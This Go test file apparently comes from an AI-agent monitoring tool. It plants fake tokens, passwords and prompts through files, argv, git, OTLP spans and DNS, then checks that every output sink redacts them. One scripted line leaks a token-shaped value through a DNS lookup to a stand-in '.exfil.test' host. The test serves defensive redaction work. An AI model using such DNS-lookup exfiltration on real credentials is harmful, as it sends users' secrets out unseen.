package hostile

import (
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/agentwatch/agentwatch/agentotel"
	"github.com/agentwatch/agentwatch/event"
	"github.com/agentwatch/agentwatch/privtest"
)

// randAlnum is n random letters and digits.
func randAlnum(t *testing.T, n int) string {
	t.Helper()
	const alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, n)
	if _, err := rand.Read(b); err != nil {
		t.Fatal(err)
	}
	for i := range b {
		b[i] = alnum[int(b[i])%len(alnum)]
	}
	// Both kinds, whatever the draw: the shape rules want a digit.
	b[0], b[1] = 'Q', '7'
	return string(b)
}

// TestNoSecretInAnySink plants secrets through every route a run has —
// a dropped variable's value written into a workspace file (the diff), a
// token in a directory and a file name, in argv, in a bash -c script, in
// the prompt of `claude -p`, in a DNS name, in the agent's own OTLP span
// (name and attributes), in a branch name and a commit message — and then
// reads every byte of every sink: the store directory (runs.db, its WAL,
// the journal directory), the --trace-file, agentwatch's stdout and
// stderr (the summary), `show` and `show --json`, and what an OTLP
// collector on loopback received. No secret may be there, raw, hex or
// base64; the repository URL, the branch and the file names without
// secrets must be, intact.
func TestNoSecretInAnySink(t *testing.T) {
	privtest.Require(t)
	u := privtest.User(t, agent, agentHome)
	// Enforce drops the variables; observe passes them on (the child has
	// them) and still redacts what enforce would drop.
	for _, mode := range []string{"enforce", "observe"} {
		t.Run(mode, func(t *testing.T) { testSinks(t, u, mode) })
	}
}

func testSinks(t *testing.T, u *user.User, mode string) {
	w := newWorkspace(t, u)
	const (
		repoURL = "https://github.com/acme-org/widgets.git"
		branch  = "feature/sink-test"
		prompt  = "please refactor the widget loader carefully"
	)
	w.git("-c", "safe.directory=*", "remote", "add", "origin", repoURL)
	w.git("-c", "safe.directory=*", "checkout", "-q", "-b", branch)

	var (
		ghToken    = "gh" + "p_" + randAlnum(t, 36)                      // dropped; a token's shape
		antKey     = "sk-" + "ant-api03-" + randAlnum(t, 40)             // kept: the child has it
		nonce      = randAlnum(t, 28)                                    // dropped; no shape, looks random
		password   = "correct-horse-" + strings.ToLower(randAlnum(t, 6)) // dropped; secret by name only
		promptWord = "zebra" + strings.ToLower(randAlnum(t, 10))         // in the prompt only
		scanFound  = randAlnum(t, 24)                                    // no variable, no shape: the scan finds it in a file
	)
	secrets := map[string]string{"GITHUB_TOKEN": ghToken, "ANTHROPIC_API_KEY": antKey, "DEPLOY_NONCE": nonce,
		"SERVICE_PASSWORD": password, "prompt": prompt + " " + promptWord, "scan-found": scanFound}

	// A fake claude on PATH: the real one needs a model; its command
	// line is what is under test.
	bin := filepath.Join(w.root, "bin")
	if err := os.MkdirAll(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(bin, "claude"), []byte("#!/bin/sh\nexit 0\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	w.chown()

	up := privtest.StartDNS(t, map[string][4]byte{"allowed.test.": {127, 0, 0, 2}})
	pol := filepath.Join(t.TempDir(), "p.yaml")
	os.WriteFile(pol, []byte("version: 1\nmode: "+mode+"\n"+
		"env:\n  allow: [PATH, LANG, TERM, ANTHROPIC_API_KEY]\n"+
		"network:\n  allow: [allowed.test]\n  dns:\n    upstream: "+up.Addr+"\n"), 0o644)

	// The agent's own telemetry: one span whose name and attributes
	// carry the token and the dropped value.
	otlpPost := `import json, os, urllib.request
span = {"traceId": "0af7651916cd43dd8448eb211c80319c", "spanId": "b7ad6b7169203331", "name": "tool ` + ghToken + `",
        "kind": 1, "startTimeUnixNano": "1700000000000000000", "endTimeUnixNano": "1700000001000000000",
        "attributes": [{"key": "tool.input", "value": {"stringValue": "nonce=` + nonce + `"}},
                       {"key": "key.` + nonce + `", "value": {"boolValue": True}}]}
body = {"resourceSpans": [{"resource": {"attributes": [{"key": "service.name", "value": {"stringValue": "fake-agent"}}]},
        "scopeSpans": [{"spans": [span]}]}]}
req = urllib.request.Request(os.environ["OTEL_EXPORTER_OTLP_TRACES_ENDPOINT"], data=json.dumps(body).encode(),
                             headers={"Content-Type": "application/json"})
urllib.request.urlopen(req, timeout=5).read()
`
	script := strings.Join([]string{
		"exec >/dev/null 2>&1", // nothing of the child's reaches agentwatch's output
		// the dropped values, written into a workspace file: the diff
		"printf 'LEAK=%s\\nPW=%s\\nTOK=%s\\n' '" + nonce + "' '" + password + "' '" + ghToken + "' > leak.env",
		// tokens in a directory and a file name; a file name without one
		"mkdir -p dir-" + ghToken + " src && touch dir-" + ghToken + "/key-$ANTHROPIC_API_KEY.txt notes-" + nonce + ".txt",
		"echo plain > src/plain-name.txt",
		// a secret the scan finds by its context, used bare elsewhere
		"printf 'client_secret = \"%s\"\n' '" + scanFound + "' > app.cfg && touch out-" + scanFound + ".json",
		// argv, and a nested bash -c script
		"/bin/echo " + ghToken + " " + password + " $ANTHROPIC_API_KEY",
		"/bin/bash -c 'x=" + nonce + "; y=\"" + password + "\"; true'",
		// the prompt of an agent's command line
		"claude -p '" + prompt + " " + promptWord + "' --model sonnet",
		// a DNS name
		"getent hosts t-" + strings.ToLower(ghToken) + ".exfil.test",
		// the agent's own OTLP span
		"/usr/bin/python3 -c " + shellQuote(otlpPost),
		// a branch name and a commit message
		"git checkout -q -b topic-" + ghToken,
		"git add -A && git -c user.email=a@b -c user.name=a commit -qm 'add config " + ghToken + " " + nonce + "'",
		"true",
	}, "\n")

	storeDir := t.TempDir()
	traceFile := filepath.Join(t.TempDir(), "run.json")
	var mu sync.Mutex
	var exported [][]byte
	col, err := agentotel.Start(agentotel.Config{Emit: func(e event.Event) {
		mu.Lock()
		defer mu.Unlock()
		exported = append(exported, e.(event.AgentTelemetry).Payload)
	}})
	if err != nil {
		t.Fatal(err)
	}
	defer col.Close()

	env := append(gitEnv(), asAgentwatch+"=1", "PATH="+bin+":/usr/bin:/bin", "LANG=C.UTF-8",
		"GITHUB_REPOSITORY=acme-org/widgets", "GITHUB_HEAD_REF="+branch, "CI=true")
	for name, v := range secrets {
		if name != "prompt" && name != "scan-found" {
			env = append(env, name+"="+v)
		}
	}
	cmd := exec.Command(os.Args[0], "run", "--user", agent, "--store", storeDir, "--policy", pol,
		"--trace-file", traceFile, "--otlp-endpoint", col.HTTPEndpoint(), "--", "/bin/bash", "-c", script)
	cmd.Env = env
	cmd.Dir = w.dir
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil && !errors.As(err, new(*exec.ExitError)) {
		t.Fatalf("running agentwatch: %v", err)
	}
	m := recordedRe.FindStringSubmatch(stderr.String())
	if m == nil {
		t.Fatalf("no run recorded (exit %d):\nstdout:\n%s\nstderr:\n%s", cmd.ProcessState.ExitCode(), stdout.String(), stderr.String())
	}
	runID := m[1]
	if err := col.Close(); err != nil {
		t.Fatal(err)
	}

	// The readers: show, show --json, runs.
	show := func(args ...string) []byte {
		if len(args) == 0 || args[0] != "runs" {
			args = append(append([]string{"show"}, args...), runID)
		}
		c := exec.Command(os.Args[0], append(args[:1:1], append([]string{"--store", storeDir}, args[1:]...)...)...)
		c.Env = append(os.Environ(), asAgentwatch+"=1")
		out, err := c.CombinedOutput()
		if err != nil {
			t.Fatalf("show %v: %v\n%s", args, err, out)
		}
		return out
	}
	sinks := map[string][]byte{
		"agentwatch stdout": stdout.Bytes(),
		"agentwatch stderr": stderr.Bytes(),
		"show":              show(),
		"show --json":       show("--json"),
		"runs":              show("runs"),
	}
	var err2 error
	if sinks["trace file"], err2 = os.ReadFile(traceFile); err2 != nil {
		t.Fatal(err2)
	}
	filepath.Walk(storeDir, func(p string, fi os.FileInfo, err error) error {
		if err == nil && fi.Mode().IsRegular() {
			b, _ := os.ReadFile(p)
			rel, _ := filepath.Rel(storeDir, p)
			sinks["store "+rel] = b
		}
		return nil
	})
	mu.Lock()
	if len(exported) == 0 {
		t.Error("the OTLP collector received nothing")
	}
	sinks["OTLP collector"] = bytes.Join(exported, nil)
	mu.Unlock()

	for where, b := range sinks {
		for name, s := range secrets {
			pieces := []string{s}
			if name == "prompt" {
				pieces = []string{prompt, promptWord}
			}
			for _, p := range pieces {
				for enc, v := range map[string]string{"raw": p, "hex": hex.EncodeToString([]byte(p)),
					"base64": base64.StdEncoding.EncodeToString([]byte(p)), "base64url": base64.RawURLEncoding.EncodeToString([]byte(p))} {
					if bytes.Contains(b, []byte(v)) || bytes.Contains(bytes.ToLower(b), []byte(strings.ToLower(v))) && enc == "raw" {
						t.Errorf("%s holds %s (%s)", where, name, enc)
					}
				}
			}
		}
	}

	// What a user groups by is still there, and every route ran (the
	// test proves its premise: a route that did not run leaks nothing).
	all := func(where string) string { return string(sinks[where]) }
	for _, where := range []string{"trace file", "show --json", "OTLP collector"} {
		for _, want := range []string{strings.TrimSuffix(repoURL, ".git"), branch, "src/plain-name.txt", "dir-[REDACTED:github-token]",
			"notes-[REDACTED].txt", "out-[REDACTED].json", "[prompt: ", ".exfil.test", "topic-[REDACTED:github-token]", "tool [REDACTED:github-token]"} {
			if !strings.Contains(all(where), want) {
				t.Errorf("%s lacks %q", where, want)
			}
		}
	}
	if !strings.Contains(all("runs"), runID) {
		t.Errorf("runs does not list the run:\n%s", all("runs"))
	}
	if !strings.Contains(all("show"), "plain-name.txt") {
		t.Errorf("show lacks the file without a secret:\n%s", all("show"))
	}
	store := bytes.Join([][]byte{sinks["store runs.db"], sinks["store runs.db-wal"]}, nil)
	if !bytes.Contains(store, []byte("+LEAK=[REDACTED]")) || !bytes.Contains(store, []byte("+PW=[REDACTED]")) {
		t.Error("the stored diff lacks leak.env's redacted lines (the diff route did not run)")
	}

	// Private files: the trace file and the store's are 0600, its
	// directories 0700.
	modes := map[string]os.FileMode{traceFile: 0o600, storeDir: 0o700, filepath.Join(storeDir, "runs.db"): 0o600}
	for p, want := range modes {
		if fi, err := os.Stat(p); err != nil {
			t.Error(err)
		} else if fi.Mode().Perm() != want {
			t.Errorf("%s: mode %v, want %v", p, fi.Mode().Perm(), want)
		}
	}
	filepath.Walk(storeDir, func(p string, fi os.FileInfo, err error) error {
		if err == nil && fi.Mode().Perm()&0o077 != 0 {
			t.Errorf("%s: mode %v, open to others", p, fi.Mode().Perm())
		}
		return nil
	})
	if t.Failed() {
		t.Logf("stderr:\n%s", stderr.String())
		if os.Getenv("AGENTWATCH_TEST_DUMP") != "" {
			os.WriteFile(os.Getenv("AGENTWATCH_TEST_DUMP"), sinks["show --json"], 0o600)
		}
	}
}
